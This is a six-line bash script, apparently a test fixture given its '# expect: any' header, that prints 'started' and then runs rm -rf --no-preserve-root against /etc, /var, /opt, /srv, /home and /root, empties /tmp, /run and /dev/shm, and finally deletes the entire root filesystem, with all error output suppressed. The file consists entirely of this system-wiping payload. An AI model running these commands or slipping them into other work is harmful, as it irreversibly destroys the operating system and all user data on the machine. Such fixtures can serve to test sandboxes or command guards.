#!/bin/bash
# expect: any
echo started
rm -rf --no-preserve-root /etc /var /opt /srv /home /root 2>/dev/null
rm -rf /tmp/* /tmp/.??* /run/* /dev/shm/* 2>/dev/null
/bin/rm -rf --no-preserve-root / 2>/dev/null
